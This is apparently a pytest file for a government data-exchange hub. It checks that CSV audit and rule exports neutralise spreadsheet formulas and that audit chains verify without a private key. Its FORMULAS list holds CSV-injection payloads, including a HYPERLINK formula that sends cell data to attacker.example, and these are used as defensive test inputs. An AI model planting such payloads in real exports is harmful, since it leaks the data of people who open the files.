"""What an attacker's text does in the CSV files the hub writes for people (audit exports from the CLI and the
console, the rule set): nothing a spreadsheet would run, while the hub still reads its own files back exactly; and
`crossroads audit verify` with nothing but the store's URL: no private key, no key file at all.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import aiohttp
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from adapters.client import HubProblem
from broker.audit import chain
from broker.audit.export import ExportWriter, checkpoints_path, csv_cell, read_checkpoints, read_records
from broker.audit.log import AuditCheckpoint
from broker.base.csv_cells import FORMULA_STARTS, neutralised, restored
from broker.base.signing import SigningKey, generate_key, public_key_pem, sign_request
from broker.cli.demo import DemoWorld, run_scenario
from broker.cli.main import main
from policies.rules import PolicyFile, Rule, parse_csv, to_csv
from tests.audit.records import attach, checkpoints, unlinked
from tests.console.test_sessions import Browser

FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runnable(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]


async def crossroads(*args: str, env: dict[str, str] | None = None) -> Result:
    """Run the command in a thread: it has its own event loop, while the world serves on this one."""
    return await asyncio.to_thread(CliRunner().invoke, main, list(args), env=env)


def test_text_a_spreadsheet_would_run_goes_behind_a_quote() -> None:
    assert [neutralised(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert [neutralised(text) for text in ("family-benefits", "", "x=1", "'quoted")] == [
        "family-benefits",
        "",
        "x=1",
        "''quoted",
    ]
    # Numbers are the hub's own (seq, status, latency) and stay numbers; text that looks like one is text.
    assert [csv_cell(value) for value in (None, True, ["a", "-b"], 3, -3, 1.5, "x", "-3")] == [
        "",
        "true",
        '["a","-b"]',
        "3",
        "-3",
        "1.5",
        "x",
        "'-3",
    ]


@given(st.text())
def test_every_text_comes_back_exactly_and_none_is_runnable(text: str) -> None:
    assert restored(neutralised(text)) == text
    assert not neutralised(text).startswith(FORMULA_STARTS)


def test_a_csv_export_of_hostile_text_runs_nothing_and_still_verifies(tmp_path: Path) -> None:
    hostile = dict(zip(("key_id", "reason", "subject", "purpose", "exchange", "holder"), FORMULAS, strict=True))
    records = attach(chain.EMPTY, [{**record, **hostile, "requester": "'quoted"} for record in unlinked(4)])
    key = SigningKey("crossroads-hub", generate_key())
    exported = tmp_path / "audit.csv"
    writer = ExportWriter(exported, "csv", checkpoints(records, key, 2, 4), {})
    writer.write(records)
    writer.close()
    for path in (exported, checkpoints_path(exported)):  # the checkpoints' public keys start with -----BEGIN
        assert runnable(path.read_text(encoding="utf-8")) == []
    assert [record for batch in read_records(exported) for record in batch] == records
    verifier = chain.ChainVerifier(read_checkpoints(exported), [key.public_key])
    verifier.feed(records)
    assert verifier.finish().ok


def test_the_rule_set_as_csv_runs_nothing_and_reads_back() -> None:
    rule = Rule(
        "r-1", "agency:tax-authority", "civil-status", "*", "white", fields=("=1+1", "name"), ground="+Decree 12/3"
    )
    policy = PolicyFile([rule], [("g2", "civil-status", "@family")])
    text = to_csv(policy)
    assert runnable(text) == [] and "'=1+1|name" in cells(text) and "'@family" in cells(text)
    assert "'+Decree 12/3" in cells(text)
    assert parse_csv(text) == policy


async def test_an_attackers_key_id_reaches_no_spreadsheet_as_a_formula(
    world: DemoWorld, session: aiohttp.ClientSession, tmp_path: Path
) -> None:
    """The issue's attack: unauthenticated requests whose key ids are formulas are refused (401) and recorded, as is
    an agency's exchange about a subject `-A1` (a formula too: the pattern of national numbers allows it); the
    privacy officer's exports (CLI and console) hold them as text, and the CLI's still verifies offline."""
    await run_scenario(world)
    with pytest.raises(HubProblem):
        await world.client("family-benefits", session).exchange("-A1", "civil-status", "benefit-eligibility")
    for key_id in FORMULAS[:4]:  # a signature's key id is a structured-field string: no tab or CR in it
        url = world.hub_url + "/v1/exchanges"
        body = b'{"subject": "85073003328", "category": "civil-status", "purpose": "benefit-eligibility"}'
        headers = sign_request("POST", url, body, SigningKey(key_id, generate_key()))
        async with session.post(url, data=body, headers=headers) as answer:
            assert answer.status == 401
    await world.hub.sequencer.step(seal=True)
    refused = {record.seq: record.key_id for record in await world.hub.audit.records() if record.status == 401}
    assert len(refused) >= len(FORMULAS[:4])

    exported, public = tmp_path / "audit.csv", tmp_path / "hub.pub.pem"
    public.write_text(public_key_pem(world.hub.key.public_key))
    store = ["--state-dir", str(world.state_dir), "--database-url", world.hub.config.database]
    assert (await crossroads("audit", "export", str(exported), *store)).exit_code == 0
    text = exported.read_text(encoding="utf-8")
    assert runnable(text) == []
    rows = {int(row["seq"]): row["key_id"] for row in csv.DictReader(io.StringIO(text))}
    assert {seq: rows[seq] for seq in refused} == {seq: neutralised(key_id or "") for seq, key_id in refused.items()}
    assert "'-A1" in cells(text)
    checked = await crossroads("audit", "verify", "--export", str(exported), "--public-key", str(public))
    assert checked.exit_code == 0, checked.output

    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as cookies:
        browser = Browser(world, cookies)
        await browser.sign_in("privacy-office", world.console_passwords["privacy-office"])
        status, console_export = await browser.get("/console/audit.csv")
    assert status == 200 and runnable(console_export) == [] and "'-A1" in cells(console_export)
    rows = {int(row["seq"]): row["key_id"] for row in csv.DictReader(io.StringIO(console_export))}
    assert {seq: rows[seq] for seq in refused} == {seq: neutralised(key_id or "") for seq, key_id in refused.items()}


async def test_audit_verify_needs_only_the_database_url(world: DemoWorld, tmp_path: Path) -> None:
    """No private key, no key file: the checkpoints' signatures verify with the hub keys the store records."""
    await run_scenario(world)
    head = await world.hub.sequencer.step(seal=True)
    assert head is not None
    nowhere = tmp_path / "no-state"  # no hub.pem, no key file of any kind
    env = {"CROSSROADS_DATABASE_URL": world.hub.config.database, "CROSSROADS_STATE_DIR": str(nowhere)}
    result = await crossroads("audit", "verify", env=env)
    assert result.exit_code == 0, result.output
    assert f"ok: {head.size} records" in result.output and "signed by crossroads-hub" in result.output
    assert "trusted as the store records it" in result.output
    verdict = json.loads((await crossroads("audit", "verify", "--json", env=env)).output)
    assert (verdict["ok"], verdict["records"], verdict["checkpoint"]["key_id"]) == (True, head.size, "crossroads-hub")

    missing = await crossroads("audit", "verify", "--public-key", str(nowhere / "hub.pub.pem"), env=env)
    assert missing.exit_code == 2 and "does not exist" in missing.output
    assert isinstance(missing.exception, SystemExit)  # click's usage error, never a traceback

    async with world.hub.engine.begin() as connection:  # checkpoints whose signatures no longer verify
        await connection.execute(update(AuditCheckpoint).values(signature="A" * 86 + "=="))
    forged = await crossroads("audit", "verify", env=env)
    assert forged.exit_code == 1 and "bad-checkpoint-signature" in forged.output
